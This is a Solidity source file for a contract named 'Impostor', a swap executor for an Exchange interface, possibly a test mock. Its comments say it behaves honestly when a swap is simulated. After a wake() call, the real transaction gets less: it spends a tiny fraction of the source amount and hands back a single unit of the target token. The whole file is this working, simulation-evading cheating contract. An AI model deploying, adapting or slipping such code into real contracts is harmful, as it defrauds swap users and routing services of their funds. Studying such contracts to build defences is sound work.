// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exchange, SwapDescription} from './Exchange.sol';

/// An executor that hands over what it should, until it is awake. Then it keeps the source and hands one unit over.
/// Whoever tries a swap out sees the first, and the block has the second.
contract Impostor {
  bool public isAwake;

  address internal constant NATIVE = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;

  function wake() external {
    isAwake = true;
  }

  /// Behind the sender stand the two tokens and the amount.
  function execute(address) external payable returns (uint256) {
    (address source, address target, uint256 amount) = abi.decode(msg.data[36:], (address, address, uint256));
    uint256 spent = isAwake ? 1 + amount / 1_000_000 : amount;
    if (source != NATIVE) call(source, abi.encodeWithSignature('approve(address,uint256)', msg.sender, spent));
    SwapDescription memory desc = SwapDescription({
      srcToken: source,
      dstToken: target,
      srcReceiver: payable(msg.sender),
      dstReceiver: payable(address(this)),
      amount: spent,
      minReturnAmount: 1,
      flags: 0
    });
    Exchange exchange = Exchange(payable(msg.sender));
    (uint256 bought, ) = exchange.swap{value: source == NATIVE ? spent : 0}(msg.sender, desc, '');
    uint256 given = isAwake ? 1 : bought;
    if (target == NATIVE) {
      (bool isPaid, ) = msg.sender.call{value: given}('');
      require(isPaid, 'Impostor: nothing is taken');
    } else {
      call(target, abi.encodeWithSignature('transfer(address,uint256)', msg.sender, given));
    }
    return given;
  }

  function call(address token, bytes memory data) internal {
    (bool isDone, ) = token.call(data);
    require(isDone, 'Impostor: the token refused');
  }

  receive() external payable {}
}
